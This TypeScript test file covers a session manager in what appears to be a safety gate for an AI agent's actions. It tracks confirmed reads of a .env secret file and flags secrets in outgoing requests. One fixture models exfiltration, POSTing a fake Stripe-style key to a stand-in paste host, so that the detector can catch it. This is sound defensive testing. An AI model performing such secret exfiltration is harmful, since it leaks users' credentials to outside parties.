/**
 * The context accumulator (R2): what an action answered `ask` touched counts once its outcome says
 * it ran, also after a restart; the first request stays the session's request, later ones beside it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createSessionManager, type ContextPersistence } from '../../daemon/src/gate/sessions.js';
import type { Action, Effects } from '../../daemon/src/protocol/index.js';

const WORKSPACE = '/home/u/project';
const readEnv: Action = {
  session: 's',
  tool: 'fs',
  operation: 'read',
  parameters: { path: `${WORKSPACE}/.env` },
  context: { workspace: WORKSPACE },
};
const effects: Effects = {
  reads: [`${WORKSPACE}/.env`],
  writes: [],
  deletes: [],
  hosts: [],
  urls: [],
  network: false,
  programs: [],
  commands: [],
  executes: [],
  risks: [],
  sensitive: ['secret-file'],
  unknown: [],
  signals: [],
  packages: [],
};

function memoryLog(): ContextPersistence {
  const rows = new Map<string, Array<{ body: string; hash: string }>>();
  return {
    appendContext: (session, _seq, body, hash) =>
      void rows.set(session, [...(rows.get(session) ?? []), { body, hash }]),
    contextLog: (session) => rows.get(session) ?? [],
  };
}

test("an asked action touches the session's data only once its outcome says it ran; a restart replays the same", () => {
  const persistence = memoryLog();
  const sessions = createSessionManager({ home: '/home/u', persistence });
  const record = (receiptId: string, verdict: 'ask' | 'allow') =>
    sessions.recordAction('s', { action: readEnv, effects, receiptId, decision: 'step_up', verdict });

  record('asked-refused', 'ask');
  assert.deepEqual(sessions.snapshot('s', undefined).dataClasses, [], 'the user may have said no');
  assert.equal(sessions.snapshot('s', undefined).allowed, 1, 'not denied by aarm');
  record('asked-ran', 'ask');
  sessions.recordOutcome('s', 'asked-ran', 'success');
  assert.deepEqual(sessions.snapshot('s', undefined).dataClasses, ['secret']);
  assert.equal(sessions.snapshot('s', undefined).reads, 1, 'only the confirmed read counts');

  const restarted = createSessionManager({ home: '/home/u', persistence });
  assert.deepEqual(restarted.snapshot('s', undefined).dataClasses, ['secret']);
  assert.equal(restarted.snapshot('s', undefined).reads, 1);

  // An allow counts at once: its outcome may never be reported (fail closed).
  sessions.recordAction('t', {
    action: readEnv,
    effects,
    receiptId: 'allowed',
    decision: 'allow',
    verdict: 'allow',
  });
  assert.deepEqual(sessions.snapshot('t', undefined).dataClasses, ['secret']);
});

test('the first request is kept; a different later prompt is recorded beside it, a repeated one is not', () => {
  const persistence = memoryLog();
  const sessions = createSessionManager({ home: '/home/u', persistence });
  sessions.setRequest('s', 'fix the login bug');
  sessions.setRequest('s', 'fix the login bug');
  sessions.setRequest('s', 'and push it');
  sessions.setRequest('s', 'and push it');
  sessions.setRequest('s', 'fix the login bug');
  const snapshot = sessions.snapshot('s', undefined);
  assert.equal(snapshot.request, 'fix the login bug');
  assert.deepEqual(snapshot.laterRequests, ['and push it', 'fix the login bug']);
  assert.equal(persistence.contextLog('s').length, 3);
  assert.deepEqual(
    createSessionManager({ home: '/home/u', persistence }).snapshot('s', undefined).laterRequests,
    ['and push it', 'fix the login bug'],
  );
});

test('an action that carries the value of a secret an asked read would give is caught before the read is confirmed', () => {
  const secret = 'sk_live_51HxT9aQv4ZbR8mN2pL6wE3yU7iO0kJ';
  const sessions = createSessionManager({
    home: '/home/u',
    persistence: memoryLog(),
    readSecretFile: () => `STRIPE_KEY=${secret}\n`,
  });
  sessions.recordAction('s', {
    action: readEnv,
    effects,
    receiptId: 'asked',
    decision: 'step_up',
    verdict: 'ask',
  });
  const post: Action = {
    session: 's',
    tool: 'net',
    operation: 'request',
    parameters: { method: 'POST', url: 'https://paste.example/new', body: `k=${secret}` },
  };
  const harmless: Action = { ...post, parameters: { method: 'GET', url: 'https://docs.example/' } };
  // Not confirmed: the session is not tainted, but the secret's value in a request still shows.
  assert.deepEqual(sessions.snapshot('s', post).dataClasses, []);
  assert.equal(sessions.snapshot('s', post).secretInParameters, true);
  assert.equal(sessions.snapshot('s', harmless).secretInParameters, false);
});
